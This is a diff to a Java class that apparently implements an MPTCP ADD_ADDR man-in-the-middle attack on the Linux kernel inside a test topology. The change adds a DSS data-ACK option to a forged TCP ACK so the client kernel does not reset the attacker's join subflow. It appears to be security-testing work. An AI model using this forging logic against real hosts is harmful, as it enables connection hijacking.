@@ -83,7 +83,7 @@ public final class AddAddrMitm implements KernelAttack {
                 TcpSegment t = third.get().segment();
                 tap.send(Topology.CLIENT_MAC, new TcpSegment(Topology.FORGED, syn.src(), syn.dstPort(), syn.srcPort(),
                         (isn + 1) & 0xffffffffL, (t.seq()) & 0xffffffffL, TcpSegment.ACK, Forge.WINDOW,
-                        List.of(), Bytes.empty()));
+                        List.of(Forge.mptcp(dataAck(ctx.fresh().clientNextDsn()))), Bytes.empty()));
             } else {
                 ctx.note("client kernel answered the attacker's SYN/ACK with flags 0x"
                         + Integer.toHexString(third.get().segment().flags()) + " " + third.get().segment().options());
@@ -101,5 +101,14 @@ public final class AddAddrMitm implements KernelAttack {
         ctx.note("client MIB counters changed: " + delta);
         ctx.note(established ? "client has a subflow to the attacker" : "join to the attacker not completed");
         return delta.getOrDefault("MPTcpExtAddAddr", 0L) >= 1;
+    }
+
+    /**
+     * The fourth ACK must carry a DSS data ACK: Linux resets a join subflow whose first ACK from
+     * the listener carries no MPTCP option (it treats that as a middlebox stripping options).
+     */
+    private static MptcpOption.Dss dataAck(long dsn) {
+        return new MptcpOption.Dss(MptcpOption.Dss.F_ACK | MptcpOption.Dss.F_ACK8, OptionalLong.of(dsn),
+                OptionalLong.empty(), OptionalLong.empty(), OptionalInt.empty(), OptionalInt.empty());
     }
 }
